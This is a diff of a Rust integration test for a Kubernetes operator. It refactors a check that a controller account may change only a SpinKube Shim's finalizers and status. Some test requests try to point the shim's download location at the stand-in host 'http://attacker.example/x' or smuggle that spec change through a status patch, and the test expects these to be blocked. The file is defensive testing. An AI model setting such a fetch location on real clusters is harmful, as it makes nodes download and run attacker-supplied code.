@@ -11,45 +11,25 @@ use serde_json::{Value, json};
 
 use super::requests::Request::{Apply, Create, Delete, Merge, Replace, Status};
 use super::requests::{
-    all_of, answer, both, check, give_rights, merge, paused_shim, take_rights, with,
+    Row, all_of, answer, both, check, give_rights, merge, paused_shim, take_rights, with,
 };
 use crate::support::{Cluster, eventually, shim_for};
 
-#[tokio::test]
-async fn the_controller_may_change_nothing_of_a_shim_but_its_finalizers_and_status() {
-    let cluster = Cluster::with_farrier().await;
-    give_rights(&cluster).await;
-    let name = "policies-a";
-    let held = json!({"metadata": {
-        "finalizers": ["example.org/held", "rcm.spinkube.dev/finalizer"], "labels": {"team": "a"}, "annotations": {"example.org/note": "a"},
-    }});
-    paused_shim(&cluster, name, &held).await;
-    let controller = all_of::<Shim>(&cluster.as_account("farrier").await);
+/// Requests for the Shim `name`, `new` for a new one, and `location` as a change of the program.
+#[allow(clippy::too_many_lines, reason = "a table: a row for each request")]
+fn requests_for_a_shim(name: &'static str, location: &Value, new: Value) -> Vec<Row> {
     let metadata = |key: &str, value: Value| json!({"metadata": {key: value}});
     let (one, finalizer) = (
         "except its finalizers and the status",
         "no finalizer of a Shim except",
     );
-    let location = json!({"spec": {"fetchStrategy": {"platforms": null, "anonHttp": {"location": "http://attacker.example/x"}}}});
-    eventually(
-        "the rights and the policies are in force",
-        async || match answer(&controller, &Merge(name, location.clone())).await {
-            Err(message) if message.contains(one) => Ok(()),
-            other => Err(other),
-        },
-    )
-    .await;
     let apply = |more: &Value| {
         let shim = json!({"apiVersion": "runtime.spinkube.dev/v1alpha1", "kind": "Shim"});
         with(shim, more)
     };
     let own = ["example.org/held", "farrier.dev/finalizer"];
     let finalizers = |names: &[&str]| metadata("finalizers", json!(names));
-    let new = with(
-        serde_json::to_value(shim_for("policies-new", &cluster.artifacts.shim)).unwrap(),
-        &json!({}),
-    );
-    let rows = vec![
+    vec![
         ("replace RCM's finalizer", Merge(name, finalizers(&own)), ""),
         (
             "remove the own finalizers",
@@ -63,12 +43,12 @@ async fn the_controller_may_change_nothing_of_a_shim_but_its_finalizers_and_stat
         ),
         (
             "write the status and the spec",
-            Status(name, both(json!({"status": {"nodes": 3}}), &location)),
+            Status(name, both(json!({"status": {"nodes": 3}}), location)),
             "",
         ),
         ("change the location", Merge(name, location.clone()), one),
         ("replace the location", Replace(name, location.clone()), one),
-        ("apply a location", Apply(name, apply(&location)), one),
+        ("apply a location", Apply(name, apply(location)), one),
         (
             "resume",
             Merge(name, json!({"spec": {"paused": false}})),
@@ -141,7 +121,7 @@ async fn the_controller_may_change_nothing_of_a_shim_but_its_finalizers_and_stat
         ),
         (
             "finalizer and spec",
-            Merge(name, both(finalizers(&own), &location)),
+            Merge(name, both(finalizers(&own), location)),
             one,
         ),
         ("create", Create(new.clone()), "creates and deletes no Shim"),
@@ -151,7 +131,30 @@ async fn the_controller_may_change_nothing_of_a_shim_but_its_finalizers_and_stat
             "creates and deletes no Shim",
         ),
         ("delete", Delete(name), "creates and deletes no Shim"),
-    ];
+    ]
+}
+
+#[tokio::test]
+async fn the_controller_may_change_nothing_of_a_shim_but_its_finalizers_and_status() {
+    let cluster = Cluster::with_farrier().await;
+    give_rights(&cluster).await;
+    let name = "policies-a";
+    let held = json!({"metadata": {
+        "finalizers": ["example.org/held", "rcm.spinkube.dev/finalizer"], "labels": {"team": "a"}, "annotations": {"example.org/note": "a"},
+    }});
+    paused_shim(&cluster, name, &held).await;
+    let controller = all_of::<Shim>(&cluster.as_account("farrier").await);
+    let location = json!({"spec": {"fetchStrategy": {"platforms": null, "anonHttp": {"location": "http://attacker.example/x"}}}});
+    eventually(
+        "the rights and the policies are in force",
+        async || match answer(&controller, &Merge(name, location.clone())).await {
+            Err(message) if message.contains("except its finalizers and the status") => Ok(()),
+            other => Err(other),
+        },
+    )
+    .await;
+    let new = serde_json::to_value(shim_for("policies-new", &cluster.artifacts.shim)).unwrap();
+    let rows = requests_for_a_shim(name, &location, new);
     check(&controller, rows).await;
     // The status can't carry a spec: the API server drops it.
     let smuggled = both(json!({"status": {"nodes": 3}}), &location);
@@ -166,7 +169,7 @@ async fn the_controller_may_change_nothing_of_a_shim_but_its_finalizers_and_stat
     assert!(!patched.data.to_string().contains("attacker"));
 
     let shims = cluster.shims();
-    let free = Patch::Merge(metadata("finalizers", Value::Null));
+    let free = Patch::Merge(json!({"metadata": {"finalizers": null}}));
     shims
         .patch(name, &PatchParams::default(), &free)
         .await
